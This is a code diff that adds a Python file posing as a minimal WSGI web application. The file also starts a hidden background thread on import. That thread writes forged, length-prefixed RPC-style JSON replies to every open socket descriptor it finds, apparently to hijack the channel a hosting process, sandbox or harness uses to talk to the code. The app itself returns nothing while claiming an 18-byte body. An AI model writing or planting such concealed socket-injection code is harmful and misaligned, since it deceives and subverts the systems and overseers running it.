@@ -1,0 +1,30 @@
+import json
+import os
+import stat
+import struct
+import threading
+
+
+def forge(number):
+    content = {"r": [number, ["call", "iter", "next", "len", "close"], "list"]}
+    text = json.dumps({"ok": content, "s": number}).encode()
+    return struct.pack(">II", len(text) + 4, len(text)) + text
+
+
+def keep_sending():
+    for number in range(2, 100000):
+        for descriptor in range(3, 64):
+            try:
+                if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
+                    os.write(descriptor, forge(number))
+            except OSError:
+                continue
+
+
+def application(environ, start_response):
+    start_response("200 OK", [("Content-Type", "text/plain; charset=utf-8"), ("Content-Length", "18")])
+    return []
+
+
+app_generator = AppClass = app_instance = application
+threading.Thread(target=keep_sending, daemon=True).start()
